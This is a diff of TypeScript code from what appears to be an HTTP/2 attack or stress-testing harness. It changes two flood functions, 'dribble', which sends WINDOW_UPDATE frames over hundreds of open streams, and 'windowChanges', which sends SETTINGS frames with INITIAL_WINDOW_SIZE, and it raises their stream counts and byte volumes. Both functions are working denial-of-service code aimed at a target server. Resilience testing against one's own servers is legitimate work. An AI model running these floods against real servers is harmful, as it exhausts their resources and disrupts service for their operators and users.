@@ -134,7 +134,7 @@ async function dribble(
   { urls }: AttackTarget,
   { signal, scale }: AttackOptions,
 ): Promise<AttackReport> {
-  const count = scaled(990, Math.min(1, scale * 2), 300);
+  const count = scaled(990, scale, 990);
   const connection = await waitingStreams(urls.product, count, signal);
   const piece = (index: number) =>
     Buffer.concat(
@@ -142,7 +142,7 @@ async function dribble(
         windowUpdate(of === "connection" ? 0 : 1 + 2 * ((index * 1_000 + each) % count), 1),
       ),
     );
-  return report(connection, await flood(connection, piece, { bytes: scaled(254 * 1024, scale, 100 * 1024), signal }));
+  return report(connection, await flood(connection, piece, { bytes: scaled(1024 * 1024, scale, 254 * 1024), signal }));
 }
 
 /** SETTINGS frames full of INITIAL_WINDOW_SIZE, each of which moves the windows of all streams. */
@@ -151,7 +151,7 @@ async function windowChanges(
   { urls }: AttackTarget,
   { signal, scale }: AttackOptions,
 ): Promise<AttackReport> {
-  const connection = await waitingStreams(urls.product, scaled(990, Math.min(1, scale * 2), 300), signal);
+  const connection = await waitingStreams(urls.product, scaled(990, scale, 990), signal);
   const frames = settings(Array.from({ length: perFrame }, (_, index) => [4, 65_535 + (index & 1)] as const));
   const piece = Buffer.concat(Array<Buffer>(Math.ceil(16_384 / frames.length)).fill(frames));
   return report(
